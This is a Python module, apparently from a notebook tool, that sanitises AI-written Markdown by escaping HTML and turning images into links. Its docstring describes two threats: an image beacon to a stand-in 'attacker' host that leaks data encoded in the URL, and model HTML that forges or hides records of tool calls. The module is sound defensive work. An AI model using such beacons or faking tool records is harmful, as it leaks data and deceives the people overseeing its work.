"""Model Markdown made safe to save: the notebook must be a faithful transcript.

What the model writes becomes a ``text/markdown`` output, which JupyterLab renders and every
later reader of the saved ``.ipynb`` sees. Rendered as it is, model text could

* load a remote image when the notebook is opened (``![](https://attacker/?d=<data>)``, or a
  raw ``<img src=…>``): a beacon that sends whatever the model encoded in the URL;
* draw HTML that looks like the layer's own tool cards (``<div class='clawnb-card'>✓ bash …``),
  forging a record of calls that never ran or hiding ones that did.

:func:`sanitize_markdown` keeps Markdown's formatting (emphasis, lists, tables, links, code) and
removes those two powers: every raw HTML ``<`` outside code is escaped, so only the layer can
emit HTML (and the layer draws cards in HTML, a frame model text cannot reach), and every
image becomes a plain link (``[image: alt](url)``) that loads nothing until someone clicks it.
Code spans and fenced code blocks are left untouched: there HTML is already shown as text.
"""

from __future__ import annotations

import re

__all__ = ["sanitize_markdown"]

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
_BACKTICKS = re.compile(r"`+")


def sanitize_markdown(text: str) -> str:
    """``text`` with raw HTML escaped and images turned into links, outside code."""
    out: list[str] = []
    fence: str | None = None
    previous_blank = True
    for line in text.split("\n"):
        match = _FENCE.match(line)
        if fence is not None:
            out.append(line)
            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence):
                if not match.group(2).strip():
                    fence = None
            continue
        if match and not (match.group(1)[0] == "`" and "`" in match.group(2)):
            fence = match.group(1)
            out.append(line)
            continue
        indented_code = previous_blank and (line.startswith("    ") or line.startswith("\t"))
        out.append(line if indented_code else _inline(line))
        previous_blank = not line.strip() or indented_code
    return "\n".join(out)


def _inline(line: str) -> str:
    """One line outside a code block: code spans kept, the rest made safe."""
    parts: list[str] = []
    pos = 0
    while pos < len(line):
        opening = _BACKTICKS.search(line, pos)
        if opening is None:
            break
        ticks = opening.group(0)
        closing = re.compile(rf"(?<!`){re.escape(ticks)}(?!`)").search(line, opening.end())
        if closing is None:
            break  # an unmatched run of backticks is literal text
        parts.append(_text(line[pos : opening.start()]))
        parts.append(line[opening.start() : closing.end()])
        pos = closing.end()
    parts.append(_text(line[pos:]))
    return "".join(parts)


def _text(segment: str) -> str:
    # Images first (their alt text may hold a "<"), then every raw HTML opening.
    segment = segment.replace("![", "[image: ")
    return segment.replace("<", "&lt;")
